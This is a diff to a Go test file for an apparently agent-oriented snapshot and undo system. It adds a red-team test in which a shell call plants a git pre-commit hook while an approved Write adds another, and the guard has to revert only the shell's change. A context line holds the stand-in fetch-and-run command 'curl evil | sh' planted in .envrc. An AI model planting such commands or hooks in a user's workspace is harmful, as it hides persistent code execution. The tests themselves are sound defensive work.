@@ -3,6 +3,8 @@ package snapshot_test
 import (
 	"context"
 	"path/filepath"
+	"slices"
+	"strings"
 	"testing"
 
 	"github.com/agentbox/agentbox/snapshot"
@@ -181,5 +183,49 @@ func TestRedteamNoUnjudgedOldState(t *testing.T) {
 		if got := read(ws, ".envrc"); got == "curl evil | sh\n" {
 			t.Fatalf("undoing the forced undo restored the shell's plant")
 		}
+	}
+}
+
+// The shell command creates .git/hooks and plants a hook in it; while it
+// runs, an approved Write adds another hook there. The command's guard
+// reverts what the command did, and only that: removing the directory it
+// created would delete the approved Write's file, a change journaled in
+// another entry (which undo could then never account for).
+func TestRedteamGuardSparesOthersBeneathCreatedDir(t *testing.T) {
+	ctx := context.Background()
+	ws := t.TempDir()
+	write(t, ws, ".git/config", "[core]\n")
+	write(t, ws, "main.go", "package main\n")
+	st := openProtected(t, ws)
+	sh, err := st.Begin(ctx, snapshot.CallInfo{Tool: "Bash"}, snapshot.Whole())
+	if err != nil {
+		t.Fatal(err)
+	}
+	write(t, ws, ".git/hooks/pre-commit", "evil\n")
+	w := fileWrite(t, st, ws, ".git/hooks/post-checkout", "approved\n")
+	se, err := sh.Finish(ctx)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Logf("write %v; shell %v reverted %v overlapped %v %s", paths(w.Changes), paths(se.Changes), se.Reverted, se.Overlapped, se.RevertError)
+	if got := read(ws, ".git/hooks/post-checkout"); got != "approved\n" {
+		t.Fatalf("the approved Write's hook after the shell's guard: %q", got)
+	}
+	if got := read(ws, ".git/hooks/pre-commit"); got == "evil\n" {
+		t.Fatalf("the shell's planted hook survived")
+	}
+	var rev []string
+	for _, r := range se.Reverted {
+		rev = append(rev, r.Path)
+	}
+	if !slices.Contains(rev, ".git/hooks/pre-commit") || slices.Contains(rev, ".git/hooks/post-checkout") {
+		t.Errorf("shell entry reverted %v", rev)
+	}
+	// The journal still accounts for the hook: undoing the Write removes it.
+	if _, err := st.Undo(ctx, w.ID, false, snapshot.CallInfo{}); err != nil {
+		t.Fatalf("undo of the Write: %v", err)
+	}
+	if got := read(ws, ".git/hooks/post-checkout"); !strings.HasPrefix(got, "<") {
+		t.Fatalf("after undoing the Write the hook is still there: %q", got)
 	}
 }
